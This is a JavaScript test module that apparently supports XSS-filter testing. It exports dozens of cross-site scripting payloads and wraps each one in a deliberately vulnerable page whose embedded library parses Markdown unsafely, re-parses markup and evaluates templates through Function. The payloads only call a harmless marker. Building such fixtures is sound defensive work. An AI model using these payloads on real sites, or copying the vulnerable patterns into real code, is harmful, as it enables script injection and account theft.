/** Texts that run a script if a page takes them for markup or code, each with a careless page in which they do. */

/** Elements that start a script by themselves, or once somebody touches them. */
const elements = (call) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}">`,
  `<iframe srcdoc="<script>${call}</script>">`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<p style="animation:x" onanimationstart=${call}><style>@keyframes x{}</style>`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x`,
  `<button formaction="javascript:${call}" form=f>x</button><form id=f>`,
  `<p onclick=${call}>x`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

/** Pages that put a text between these two pieces, and texts that end the place where they stand. */
const places = (call) => [
  ['<input value="', '">', `" autofocus onfocus=${call} title="`],
  ["<input value='", "'>", `' autofocus onfocus=${call} title='`],
  ['<input value=', '>', `x autofocus onfocus=${call}`],
  ['<p title="', '">', `"><img src=x onerror=${call}>`],
  ["<p title='", "'>", `'><img src=x onerror=${call}>`],
  ['<!-- ', ' -->', `--><img src=x onerror=${call}>`],
  ['<!-- ', ' -->', `--!><img src=x onerror=${call}>`],
  ['<svg><![CDATA[', ']]></svg>', `]]><img src=x onerror=${call}>`],
  ['<title>', '</title>', `</title><img src=x onerror=${call}>`],
  ['<textarea>', '</textarea>', `</textarea><img src=x onerror=${call}>`],
  ['<style>', '</style>', `</style><img src=x onerror=${call}>`],
  ['<script>const text = "', '"</script>', `</script><img src=x onerror=${call}>`],
  ['<script>const text = "', '"</script>', `";${call};//`],
  ["<script>const text = '", "'</script>", `';${call};//`],
  ['<script>const text = `', '`</script>', `\`;${call};//`],
  ['<script>const text = `', '`</script>', `\${${call}}`],
  ["<p data-quoted='", "'></p>", `\\";${call};//`],
  ["<p data-parsed-twice='", "'></p>", `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`],
  ['<a href="', '">x</a>', `javascript:${call}`],
  ['<a href="', '">x</a>', `JaVaScRiPt:${call}`],
  ["<iframe src='", "'></iframe>", `data:text/html,<script>${call}</script>`],
  ['<a href="', '">x</a>', `https://example.org/"onclick="${call}`],
  ['<p data-markdown>', '</p>', `[click](javascript:${call})`],
  ['<p data-template>', '</p>', `{{constructor.constructor('${call}')()}}`],
];

/**
 * What careless libraries do with a text: make links of Markdown, run the code in a template, put `\\` before quotes alone, and
 * parse markup once more that they have parsed and written before.
 */
const library = `<script>
for (const { dataset, textContent, parentElement } of document.querySelectorAll('p')) {
  if ('markdown' in dataset) parentElement.innerHTML = textContent.replace(/\\[(.*)\\]\\((\\S*)\\)/, '<a href="$2">$1</a>');
  if ('quoted' in dataset) Function('const text = "' + dataset.quoted.replaceAll('"', '\\\\"') + '"')();
  if ('parsedTwice' in dataset) {
    const parsed = document.body.appendChild(document.createElement('div'));
    parsed.innerHTML = dataset.parsedTwice;
    parsed.innerHTML = parsed.innerHTML;
  }
  if ('template' in dataset) Function('with ({}) {' + /{{(.*)}}/.exec(textContent)[1] + '}')();
}
</script>`;

const kinds = (call) => [...elements(call).map((text) => ['', '', text]), ...places(call)];

/**
 * All of them call `ran` with their own number. None has a tab or a line break, which fields of one line do not store.
 */
export const payloads = kinds('').map((_, number) => {
  const call = `ran(${number})`;
  const [before, after, text] = kinds(call)[number];
  return {
    number,
    mark: call,
    text,
    /** For fields with room for 20 characters. */
    short: `<svg onload=${call}>`,
    /** A page that shows `stored`, which begins with the payload, as a careless program would. */
    carelessPage: (stored) => `<!doctype html><meta charset=utf-8>${before}${stored}${after}${library}`,
  };
});
